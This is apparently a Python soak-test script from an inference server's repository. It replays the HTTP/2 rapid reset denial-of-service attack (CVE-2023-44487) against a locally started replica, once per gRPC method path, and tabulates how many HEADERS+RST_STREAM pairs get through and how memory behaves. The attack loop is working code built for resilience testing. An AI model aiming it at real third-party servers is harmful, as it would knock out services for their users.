#!/usr/bin/env python3
"""The HTTP/2 rapid reset (CVE-2023-44487) straight at one replica: PAIRS
HEADERS + RST_STREAM pairs on one connection, as fast as the socket takes
them, for each method path; prints per path how many pairs went through
before the server cut the connection, and the server's RSS before, at its
peak, and 3 s and 15 s after the connection closed (the memory trimmer runs
every 10 s). A fresh CPU-backend server per path.

Usage (from the checkout root):
  python3 -m bench.soak.rapid_reset [--server=build/bin/softmax-server] [--pairs=100000]
"""
import argparse
import os
import time

from bench.lib import h2
from bench.lib.server import Server, find_binaries

PATHS = ["/softmax.v1.SoftmaxService/Softmax", "/inference.GRPCInferenceService/ModelInfer",
         "/inference.GRPCInferenceService/ServerLive", "/softmax.v1.SoftmaxService/SoftmaxStream",
         "/inference.GRPCInferenceService/ModelStreamInfer", "/no.Such/Method"]


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) // 1024
    return 0


def attack(server_bin, path, pairs):
    server = Server(server_bin, device="cpu", http=False, metrics=False)
    pid = server.process.pid
    try:
        before = peak = rss_mib(pid)
        connection = h2.Connection(server.grpc_address, timeout=30)
        sent = pairs
        try:
            for i in range(pairs):
                connection.headers(2 * i + 1, path)
                connection.reset(2 * i + 1)
                if i % 5000 == 0:
                    peak = max(peak, rss_mib(pid))
        except OSError:
            sent = i
        time.sleep(1)
        peak = max(peak, rss_mib(pid))
        connection.close()
        time.sleep(3)
        after_3 = rss_mib(pid)
        time.sleep(12)
        return sent, before, peak, after_3, rss_mib(pid)
    finally:
        server.kill()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--server", default=find_binaries()[0],
                        help="softmax-server (default: SOFTMAX_SERVER_BIN, else build/bin/)")
    parser.add_argument("--pairs", type=int, default=100_000)
    args = parser.parse_args()
    print(f"{args.pairs} pairs on one connection, one fresh server per path, "
          f"{os.cpu_count()} cores\n")
    print("| path | pairs before the cut | RSS MiB before | peak | 3 s after close | 15 s after |")
    print("|---|---:|---:|---:|---:|---:|")
    for path in PATHS:
        sent, before, peak, after_3, after_15 = attack(args.server, path, args.pairs)
        cut = "not cut" if sent == args.pairs else f"{sent:,}"
        print(f"| `{path}` | {cut} | {before} | {peak} | {after_3} | {after_15} |", flush=True)


if __name__ == "__main__":
    main()
